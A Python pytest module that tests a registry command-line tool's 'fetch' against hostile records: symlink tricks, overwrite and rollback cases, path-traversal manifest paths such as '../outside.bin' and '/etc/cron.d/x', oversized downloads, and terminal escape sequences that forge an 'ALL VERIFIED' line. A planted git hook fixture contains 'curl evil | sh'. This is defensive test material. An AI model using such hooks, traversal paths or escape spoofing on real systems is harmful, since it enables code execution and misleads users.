"""The buyer's machine against a hostile record: `fetch` writes only inside DIR, through no link, over no file
unasked, all or nothing, stops at the declared size, and every string another party wrote is printed escaped.

Records are made as an owner or a malicious publisher could (the real publish flow, or a crafted manifest
anchored directly), on a real Anvil; the buyer runs the command line. Each test asserts the exit code, the
message, and the exact tree of DIR (and of the folder a link points to) afterwards.
"""

from __future__ import annotations

import errno
import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from ipfs.cid import Cid
from ipfs.embedded import EmbeddedStore
from registry import backends as backendslib
from registry import publish as publish_flow
from registry.chain import localnode
from registry.cli import app
from registry.config import Settings
from tests.fixtures.chain_nodes import require_binary
from tests.fixtures.gateway_server import GatewayServer, lying_dag
from verifier.integrity import manifest as manifestlib

pytestmark = pytest.mark.daemon

runner = CliRunner()
CHUNK = 256 * 1024
HOOK = b"#!/bin/sh\necho the buyer's own hook\n"


@pytest.fixture(scope="module")
def anvil(tmp_path_factory: pytest.TempPathFactory) -> Iterator[localnode.AnvilNode]:
    """One Anvil for the module: each test deploys its own contracts, so records never mix."""
    require_binary("anvil")
    with localnode.AnvilNode(log_path=tmp_path_factory.mktemp("anvil") / "anvil.log") as node:
        yield node


@pytest.fixture
def owner(anvil: localnode.AnvilNode, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    monkeypatch.setenv("LEDGERMARK_PRIVATE_KEY", anvil.first_key)
    settings = Settings.load(data_dir=tmp_path / "state", chain=anvil.url)
    backendslib.deploy_on(settings)
    return settings


def _cli(settings: Settings, *args: object) -> Result:
    """The buyer's command, on the owner's chain and data directory (its store holds the content)."""
    base = ["--data-dir", str(settings.data_dir), "--chain", settings.chain]
    return runner.invoke(app, [*base, *map(str, args)])


def _publish(settings: Settings, files: dict[str, bytes], folder: Path) -> int:
    """A record of ``files`` (manifest path → bytes) through the real publish flow."""
    folder.mkdir(parents=True, exist_ok=True)
    artifacts = []
    for index, (name, data) in enumerate(files.items()):
        (folder / str(index)).write_bytes(data)
        artifacts.append(publish_flow.Artifact(folder / str(index), "model", name))
    with backendslib.open_backends(settings) as backends:
        return publish_flow.publish(backends, artifacts, name="hostile").record_id


def _anchor(settings: Settings, manifest_bytes: bytes, *, root: bytes, leaf_count: int) -> int:
    """Anchor arbitrary manifest bytes, as a malicious publisher could."""
    with backendslib.open_backends(settings) as backends:
        record_id, _ = backends.registry.publish(root, leaf_count, backends.store.add_bytes(manifest_bytes))
    return record_id


def _tree(folder: Path) -> dict[str, object]:
    """Every entry under ``folder`` without following links: file bytes, ``'dir'``, or ``'-> target'``."""
    tree: dict[str, object] = {}
    for where, folders, names in os.walk(folder):
        for name in folders + names:
            path = Path(where, name)
            key = path.relative_to(folder).as_posix()
            if path.is_symlink():
                tree[key] = f"-> {os.readlink(path)}"
            elif path.is_dir():
                tree[key] = "dir"
            else:
                tree[key] = path.read_bytes()
    return tree


# --------------------------------------------------------------------------- links


def test_a_symlink_in_the_output_folder_is_not_followed(owner: Settings, tmp_path: Path) -> None:
    record = _publish(owner, {"a.bin": b"first", "sub/model.bin": b"weights"}, tmp_path / "files")
    dest, elsewhere = tmp_path / "dest", tmp_path / "elsewhere"
    elsewhere.mkdir()
    dest.mkdir()
    (dest / "sub").symlink_to(elsewhere)

    result = _cli(owner, "fetch", record, "--out", dest)

    assert result.exit_code == 2, result.output
    assert result.stderr == (
        f"error: refusing to write into {dest}: {dest}/sub is a symbolic link (never followed); "
        "nothing was written\n"
    )
    assert "verified" not in result.stdout
    assert _tree(dest) == {"sub": f"-> {elsewhere}"}
    assert _tree(elsewhere) == {}


def test_an_output_folder_that_is_a_link_is_refused(owner: Settings, tmp_path: Path) -> None:
    record = _publish(owner, {"model.bin": b"weights"}, tmp_path / "files")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "dest").symlink_to(elsewhere)

    result = _cli(owner, "fetch", record, "--out", tmp_path / "dest")

    assert result.exit_code == 2, result.output
    assert result.stderr == (
        f"error: refusing to write into {tmp_path / 'dest'}: it is a symbolic link (never followed); "
        "nothing was written\n"
    )
    assert _tree(elsewhere) == {}


def test_a_link_at_a_target_path_is_refused_even_with_force(owner: Settings, tmp_path: Path) -> None:
    record = _publish(owner, {"model.bin": b"weights"}, tmp_path / "files")
    dest, victim = tmp_path / "dest", tmp_path / "victim.txt"
    victim.write_bytes(b"precious")
    dest.mkdir()
    (dest / "model.bin").symlink_to(victim)

    result = _cli(owner, "fetch", record, "--out", dest, "--force")

    assert result.exit_code == 2, result.output
    assert f"{dest}/model.bin is a symbolic link (never followed)" in result.stderr
    assert _tree(dest) == {"model.bin": f"-> {victim}"}
    assert victim.read_bytes() == b"precious"


# --------------------------------------------------------------------------- existing files


def test_an_existing_file_is_not_overwritten_without_force(owner: Settings, tmp_path: Path) -> None:
    """A record that plants a git hook in a buyer's checkout: refused, the hook and everything else untouched."""
    files = {".git/hooks/post-checkout": b"#!/bin/sh\ncurl evil | sh\n", "model.bin": b"weights"}
    record = _publish(owner, files, tmp_path / "files")
    dest = tmp_path / "checkout"
    (dest / ".git" / "hooks").mkdir(parents=True)
    (dest / ".git" / "hooks" / "post-checkout").write_bytes(HOOK)
    before = _tree(dest)

    result = _cli(owner, "fetch", record, "--out", dest)

    assert result.exit_code == 2, result.output
    assert result.stderr == (
        f"error: refusing to write into {dest}: {dest}/.git/hooks/post-checkout already exists "
        "(--force replaces it); nothing was written\n"
    )
    assert _tree(dest) == before


def test_a_second_fetch_into_one_folder_names_the_clashes_and_keeps_the_files(
    owner: Settings, tmp_path: Path
) -> None:
    files = {f"part-{i}.bin": bytes([i]) * 10 for i in range(7)}
    record = _publish(owner, files, tmp_path / "files")
    dest = tmp_path / "dest"
    assert _cli(owner, "fetch", record, "--out", dest).exit_code == 0
    (dest / "part-0.bin").write_bytes(b"edited by the buyer")
    before = _tree(dest)

    again = _cli(owner, "fetch", record, "--out", dest)

    assert again.exit_code == 2, again.output
    shown = "; ".join(f"{dest}/part-{i}.bin already exists (--force replaces it)" for i in range(5))
    assert again.stderr == (
        f"error: refusing to write into {dest}: {shown}; and 2 more; nothing was written\n"
    )
    assert _tree(dest) == before


def test_force_replaces_atomically(owner: Settings, tmp_path: Path) -> None:
    """The old file is renamed over, never rewritten in place: a reader holding it open keeps the old bytes."""
    record = _publish(owner, {"model.bin": b"new weights", "sub/extra.bin": b"extra"}, tmp_path / "files")
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "model.bin").write_bytes(b"old weights")
    old_inode = (dest / "model.bin").stat().st_ino

    with open(dest / "model.bin", "rb") as reader:
        result = _cli(owner, "fetch", record, "--out", dest, "--force")
        assert reader.read() == b"old weights"

    assert result.exit_code == 0, result.output
    assert f"record {record}: all 2 artifacts verified against the chain" in result.stdout
    assert _tree(dest) == {"model.bin": b"new weights", "sub": "dir", "sub/extra.bin": b"extra"}
    assert (dest / "model.bin").stat().st_ino != old_inode


@pytest.mark.parametrize(
    ("planted", "message"),
    [
        ("b", "{dest}/b is a file, but the record needs a folder there (for b/c.bin)"),
        ("a.bin/", "{dest}/a.bin is a folder, but the record has a file there"),
    ],
)
def test_a_file_directory_conflict_fails_before_anything_moves(
    owner: Settings, tmp_path: Path, planted: str, message: str
) -> None:
    record = _publish(owner, {"a.bin": b"first", "b/c.bin": b"second", "d.bin": b"third"}, tmp_path / "f")
    dest = tmp_path / "dest"
    dest.mkdir()
    if planted.endswith("/"):
        (dest / planted).mkdir()
    else:
        (dest / planted).write_bytes(b"mine")
    before = _tree(dest)

    result = _cli(owner, "fetch", record, "--out", dest, "--force")

    assert result.exit_code == 2, result.output
    assert result.stderr == (
        f"error: refusing to write into {dest}: {message.format(dest=dest)}; nothing was written\n"
    )
    assert _tree(dest) == before


def test_a_move_that_fails_midway_is_rolled_back(
    owner: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The disk fails on the third file: the first (replaced with --force) is restored, the second and its new
    folder removed, so DIR is exactly as before."""
    files = {"a.bin": b"new a", "b/new.bin": b"new b", "c.bin": b"new c"}
    record = _publish(owner, files, tmp_path / "files")
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "a.bin").write_bytes(b"old a")
    inode = (dest / "a.bin").stat().st_ino
    before = _tree(dest)
    _fail_when_placing(monkeypatch, "c.bin")

    result = _cli(owner, "fetch", record, "--out", dest, "--force")

    assert result.exit_code == 2, result.output
    assert result.stderr == "error: Input/output error: c.bin\n"
    assert _tree(dest) == before
    assert (dest / "a.bin").stat().st_ino == inode  # the very file the buyer had, not a copy


def _fail_when_placing(monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """Make every link or rename that would create ``name`` fail as a dying disk would."""
    for call in ("link", "rename"):
        real = getattr(os, call)

        def failing(src, dst, *args, _real=real, **kwargs):  # type: ignore[no-untyped-def]
            if dst == name:
                raise OSError(errno.EIO, os.strerror(errno.EIO), name)
            return _real(src, dst, *args, **kwargs)

        monkeypatch.setattr(os, call, failing)


# --------------------------------------------------------------------------- hostile manifests and DAGs


@pytest.mark.parametrize("path", [".", "a/../b", "../outside.bin", "/etc/cron.d/x", "a//b"])
def test_a_manifest_path_that_leaves_or_names_the_folder_is_refused_at_load(
    owner: Settings, tmp_path: Path, path: str
) -> None:
    record = _publish(owner, {"model.bin": b"weights"}, tmp_path / "files")
    with backendslib.open_backends(owner) as backends:
        honest = backends.store.cat(backends.registry.record(record).manifest_cid)
    document = json.loads(honest)
    document["entries"][0]["path"] = path
    crafted = json.dumps(document, sort_keys=True, separators=(",", ":")).encode()
    hostile = _anchor(owner, crafted, root=b"\x33" * 32, leaf_count=1)
    dest = tmp_path / "dest"

    result = _cli(owner, "fetch", hostile, "--out", dest)

    assert result.exit_code == 1, result.output
    assert result.stderr.startswith(f"FAILED: record {hostile}: manifest ")
    assert f"rejected: artifact path {path!r}" in result.stderr
    assert not dest.exists()
    assert not (tmp_path / "outside.bin").exists()


def test_a_one_byte_declaration_over_a_large_dag_writes_nothing(owner: Settings, tmp_path: Path) -> None:
    """A manifest declaring 1 byte over 40 real 256 KiB chunks (10 MiB), served by a dishonest gateway: the
    buyer stops after a chunk or two, exits 1 and writes nothing."""
    root, blocks = lying_dag(40)
    entry = manifestlib.ManifestEntry(role="model", path="model.bin", size=1, sha256="0" * 64, cid=str(root))
    manifest = manifestlib.Manifest.create("one byte", [entry])
    record = _anchor(owner, manifest.to_bytes(), root=manifest.root(), leaf_count=1)
    dest = tmp_path / "dest"

    with GatewayServer(EmbeddedStore(owner.blocks_dir), extra=blocks, car=False) as gateway:
        result = _cli(owner, "--gateway", gateway.url, "fetch", record, "--out", dest)
        leaves = [cid for _, cid, fmt in gateway.requests if fmt == "raw" and Cid.parse(cid) != root]

    assert result.exit_code == 1, result.output
    assert result.stderr.startswith(f"FAILED: record {record}: downloaded artifacts do not match")
    assert "larger than the 1 bytes the manifest declares" in result.stderr
    assert len(leaves) <= 2  # a chunk or two of the 10 MiB
    assert not dest.exists()


# --------------------------------------------------------------------------- what the buyer reads


def test_terminal_escapes_in_paths_are_printed_escaped(owner: Settings, tmp_path: Path) -> None:
    """A path that would paint a green "ALL VERIFIED" over the real line is shown as escapes by every command."""
    path = "model\x1b[32m ALL VERIFIED\x1b[0m\r.bin"
    record = _publish(owner, {path: b"weights"}, tmp_path / "files")
    dest = tmp_path / "dest"
    escaped = "model\\x1b[32m ALL VERIFIED\\x1b[0m\\r.bin"

    shown = _cli(owner, "show", record)
    fetched = _cli(owner, "fetch", record, "--out", dest)
    (dest / path).write_bytes(b"tampered")
    verified = _cli(owner, "verify", record, dest)
    lineage = _cli(owner, "lineage", record)

    assert (shown.exit_code, fetched.exit_code, verified.exit_code, lineage.exit_code) == (0, 0, 1, 0)
    assert f"  model         {escaped}  7 B  " in shown.stdout
    assert f"  ok  {dest}/{escaped}" in fetched.stdout
    assert f"  mismatch: {escaped} (model): size expected 7 got 8" in verified.stdout
    assert f"#{record} " in lineage.stdout
    for result in (shown, fetched, verified, lineage):
        assert "\x1b" not in result.output and "\r" not in result.output


def test_other_parties_messages_and_dispute_fields_are_printed_escaped(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A gateway's error, a pinning service's answer, a dispute's fields: no raw escape reaches the terminal,
    while the message's own line breaks stay."""
    import typer

    from registry.cli import _output
    from registry.cli import dispute as dispute_cli
    from registry.errors import VerificationFailed

    forged = "\x1b[2K\rALL VERIFIED"
    _output.emit(False, {}, [f"pinned at {forged}"])
    dispute_cli._emit(False, {"report_cid": forged, "votes": {"note": forged}})
    _output.report_failure(
        VerificationFailed(f"gateway said {forged}", problems=[f"corrupt: {forged}"]), False
    )
    with pytest.raises(typer.Exit):
        _output.fail(f"service answered {forged}\nsecond line")

    out, err = capsys.readouterr()
    assert out == (
        "pinned at \\x1b[2K\\rALL VERIFIED\n"
        "report_cid         \\x1b[2K\\rALL VERIFIED\n"
        'votes              {"note": "\\u001b[2K\\rALL VERIFIED"}\n'
    )
    assert err == (
        "FAILED: gateway said \\x1b[2K\\rALL VERIFIED\n"
        "  corrupt: \\x1b[2K\\rALL VERIFIED\n"
        "error: service answered \\x1b[2K\\rALL VERIFIED\nsecond line\n"
    )
